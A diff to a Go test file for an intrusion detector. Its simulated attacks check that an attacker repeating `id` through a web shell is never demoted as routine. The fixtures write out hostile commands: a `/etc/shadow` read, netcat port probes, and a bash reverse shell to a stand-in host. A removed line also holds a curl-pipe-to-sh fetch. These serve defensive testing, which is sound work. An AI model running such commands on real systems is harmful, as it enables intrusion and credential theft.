@@ -97,46 +97,69 @@ func TestRoutineDemotesRegularCommand(t *testing.T) {
 }
 
 // TestRoutineAttackerRepeatingOneCommand: an attacker who runs `id` fifty
-// times must not become routine, however the repetitions are spread.
+// times must not become routine, however the repetitions are spread. Each
+// case leaves exactly one of the design's guards to catch it (each was
+// checked by disabling that guard: the case then fails).
 func TestRoutineAttackerRepeatingOneCommand(t *testing.T) {
-	const shell = "/var/www/html/uploads/x.php"
-	up := shellOf(0, worker1, "/var/www/html/uploads")
+	const dir = "/var/www/html/uploads"
+	id := func(s *sim, i int, at float64, cmd string) *detect.Finding {
+		return s.find(s.exec(at, shellOf(2000+i, worker1, dir), "sh", "-c", cmd), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn")
+	}
+	spread := func(i int) float64 { return 2 + float64(i)*5.9 } // 2 s … 291 s: the whole log
 	for _, tc := range []struct {
 		name  string
 		scene func(s *sim) []*detect.Finding // the attacker's `id` findings
 	}{
-		{"in a burst after the upload", func(s *sim) []*detect.Finding {
-			s.find(s.write(100, worker1, parser.KindFileWrite, shell), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
+		{"in a burst (a few slices of the log)", func(s *sim) []*detect.Finding {
 			var ids []*detect.Finding
 			for i := 0; i < 50; i++ {
-				ids = append(ids, s.find(s.exec(101+float64(i)*0.1, child(2000+i, up), "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation"))
+				ids = append(ids, id(s, i, 101+float64(i)*0.1, "id"))
 			}
 			return ids
 		}},
-		{"spread over the log after the upload", func(s *sim) []*detect.Finding {
-			s.find(s.write(20, worker1, parser.KindFileWrite, shell), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
+		{"spread over the log after the first suspicious act", func(s *sim) []*detect.Finding {
+			s.find(s.exec(20, shellOf(1900, worker1, "/var/www/html/admin"), "cat", "/etc/shadow"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential Read")
 			var ids []*detect.Finding
 			for i := 0; i < 50; i++ {
-				ids = append(ids, s.find(s.exec(22+float64(i)*5.5, child(2000+i, up), "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation"))
+				ids = append(ids, id(s, i, 22+float64(i)*5.5, "id"))
 			}
 			return ids
 		}},
-		{"spread over the whole log through a web shell that predates it", func(s *sim) []*detect.Finding {
+		{"spread over the whole log, the command in the request's parameter", func(s *sim) []*detect.Finding {
 			var ids []*detect.Finding
 			for i := 0; i < 50; i++ {
-				at := 2 + float64(i)*5.9
-				s.http(at, "GET", "/uploads/x.php?cmd=id", 200, "203.0.113.5", "curl/8.0")
-				ids = append(ids, s.find(s.exec(at, child(2000+i, up), "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
+				s.http(spread(i), "GET", "/uploads/x.php?cmd=id", 200, "203.0.113.5", "curl/8.0")
+				ids = append(ids, id(s, i, spread(i), "id"))
 			}
 			return ids
 		}},
-		{"spread over the whole log, each run followed by a flagged act", func(s *sim) []*detect.Finding {
+		{"spread over the whole log, a flagged act following each run", func(s *sim) []*detect.Finding {
+			// the follow-ups vary (a sweep of addresses), so they are no
+			// routine of their own: a follow-up as regular as the command
+			// itself would be part of the same routine
 			var ids []*detect.Finding
 			for i := 0; i < 50; i++ {
-				at := 2 + float64(i)*5.9
-				sh := child(2000+i, up)
-				ids = append(ids, s.find(s.exec(at, sh, "sh", "-c", "id; curl -s http://198.51.100.9/k | sh"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
-				s.find(s.exec(at+0.01, child(3000+i, sh), "curl", "-s", "http://198.51.100.9/k"), detect.StageSuspiciousSpawn, detect.SeverityHigh, fmt.Sprint("Tool Download ", i))
+				ids = append(ids, id(s, i, spread(i), "id"))
+				s.find(s.exec(spread(i)+0.01, child(3000+i, shellOf(2000+i, worker1, dir)), "nc", "-z", fmt.Sprintf("10.0.%d.5", i), "22"),
+					detect.StageLateralMovement, detect.SeverityMedium, "Port Probe")
+			}
+			return ids
+		}},
+		{"spread over the whole log through the script a high finding came through", func(s *sim) []*detect.Finding {
+			var ids []*detect.Finding
+			for i := 0; i < 40; i++ {
+				s.http(spread(i), "POST", "/uploads/x.php", 200, "203.0.113.5", "curl/8.0")
+				ids = append(ids, id(s, i, spread(i), "id"))
+			}
+			s.http(260, "POST", "/uploads/x.php", 200, "203.0.113.5", "curl/8.0")
+			s.find(s.exec(260, shellOf(2999, worker1, dir), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+			return ids
+		}},
+		{"spread over the whole log next to a script written during the log", func(s *sim) []*detect.Finding {
+			s.write(1, worker1, parser.KindFileWrite, dir+"/x.php")
+			var ids []*detect.Finding
+			for i := 0; i < 50; i++ {
+				ids = append(ids, id(s, i, spread(i), "id"))
 			}
 			return ids
 		}},
